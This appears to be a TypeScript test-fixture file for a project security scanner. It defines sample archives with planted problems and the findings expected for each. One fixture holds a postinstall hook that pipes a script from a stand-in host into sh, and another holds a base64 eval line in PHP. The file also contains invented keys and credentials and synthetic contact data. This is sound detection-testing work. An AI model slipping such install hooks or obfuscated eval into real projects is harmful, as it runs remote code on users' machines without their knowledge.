import { invented, inventedPem, UPPER } from '../invented-values.ts';
import { DOCUMENTS } from './documents.ts';
import { type GoldenArchive, golden, zipOf } from './golden-archive.ts';

const accessKey = `${['AK', 'IA'].join('')}${invented('golden', 16, UPPER)}`;
const PEOPLE = Array.from(
  { length: 30 },
  (_, row) => `${row},person${row}@college-${row}.in,98${String(20_300_000 + row * 7_919)}`,
);

/** Sellers mean no harm by these, and have to mend something. */
export const CARELESS_PROJECTS: GoldenArchive[] = [
  golden(
    'A project with settings and a cloud key',
    {
      ...DOCUMENTS,
      '.env': 'DATABASE_URL=postgres://asha:rosewater@db.hostel.in/rooms\nPORT=3000\n',
      'src/upload.js': `// Uploads.\nexport const id = '${accessKey}';\n`,
    },
    {
      status: 'blocked',
      languages: { JavaScript: 1 },
      frameworks: ['PostgreSQL'],
      environment: ['DATABASE_URL', 'PORT'],
      ports: [3000],
      licences: ['MIT LICENSE'],
      has: ['readme'],
      findings: ['critical secret .env:1', 'high env_file .env:1', 'low public_key_id src/upload.js:2'],
    },
  ),
  golden(
    'A project with a private key in an archive inside it',
    {
      ...DOCUMENTS,
      'src/index.ts': 'export const open = true;\n',
      'backup/old.zip': zipOf({ 'keys/server.pem': inventedPem('PRIVATE KEY'), 'old.php': '<?php\n' }),
    },
    {
      status: 'blocked',
      languages: { TypeScript: 1 },
      licences: ['MIT LICENSE'],
      has: ['readme'],
      findings: ['critical private_key backup/old.zip!/keys/server.pem:1'],
    },
  ),
  golden(
    'A project with its installed packages and its build',
    {
      ...DOCUMENTS,
      'package.json': '{"name":"shop"}',
      'src/index.ts': 'export const open = true;\n',
      'node_modules/left-pad/package.json': '{"name":"left-pad"}',
      'node_modules/left-pad/index.js': 'module.exports = 1;\n',
      'dist/index.js': 'export const open=true;\n',
    },
    {
      status: 'findings',
      languages: { TypeScript: 1 },
      manifests: { 'package.json': 'npm, 0 dependencies' },
      commands: ['npm install'],
      licences: ['MIT LICENSE'],
      has: ['readme'],
      findings: ['medium installed_packages node_modules', 'low build_output dist'],
    },
  ),
  golden(
    'A project with a list of people',
    {
      ...DOCUMENTS,
      'app.py': 'print("Namaste")\n',
      'data/pupils.csv': `id,email,phone\n${PEOPLE.join('\n')}\n`,
    },
    {
      status: 'findings',
      languages: { Python: 1 },
      licences: ['MIT LICENSE'],
      has: ['readme'],
      dataFiles: ['data/pupils.csv: 30 rows of id, email, phone'],
      findings: ['high personal_data data/pupils.csv:2'],
    },
  ),
  golden(
    'A project that downloads a program when it is installed',
    {
      ...DOCUMENTS,
      'package.json': '{"name":"shop","scripts":{"postinstall":"curl -s https://x.example/setup.sh | sh"}}',
      'index.js': 'export const shop = 1;\n',
    },
    {
      status: 'findings',
      languages: { JavaScript: 1 },
      manifests: { 'package.json': 'npm, 0 dependencies' },
      commands: ['npm install'],
      licences: ['MIT LICENSE'],
      has: ['readme'],
      findings: ['high install_script package.json:1'],
    },
  ),
  golden(
    'A project with programs, macros and hidden code',
    {
      ...DOCUMENTS,
      'setup.exe': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(80)]),
      'price-list.xlsm': zipOf({ '[Content_Types].xml': '<Types/>', 'xl/vbaProject.bin': 'x' }),
      'web/login.php': "<?php\n\neval(base64_decode('ZWNobyAxOw=='));\n",
    },
    {
      status: 'findings',
      languages: { PHP: 2 },
      licences: ['MIT LICENSE'],
      has: ['readme'],
      findings: [
        'high macro price-list.xlsm',
        'high obfuscated web/login.php:3',
        'medium executable setup.exe',
      ],
    },
  ),
  golden(
    'A project without any document',
    { 'main.py': 'print("Namaste")\n' },
    { status: 'findings', languages: { Python: 1 }, findings: ['low readme_missing', 'low licence_missing'] },
  ),
  golden(
    'A project with a part under the AGPL',
    {
      ...DOCUMENTS,
      'src/index.ts': 'export const open = true;\n',
      'src/charts/package.json': '{"name":"charts","license":"AGPL-3.0-only"}',
      'src/charts/bars.js': '// SPDX-License-Identifier: AGPL-3.0-only\nexport const bars = 1;\n',
    },
    {
      status: 'findings',
      languages: { JavaScript: 1, TypeScript: 1 },
      manifests: { 'src/charts/package.json': 'npm, 0 dependencies' },
      commands: ['src/charts: npm install'],
      licences: ['MIT LICENSE', 'AGPL-3.0-only src/charts/package.json', 'AGPL-3.0-only src/charts/bars.js'],
      has: ['readme'],
      findings: ['high licence_conflict src/charts/bars.js', 'high licence_conflict src/charts/package.json'],
    },
  ),
];
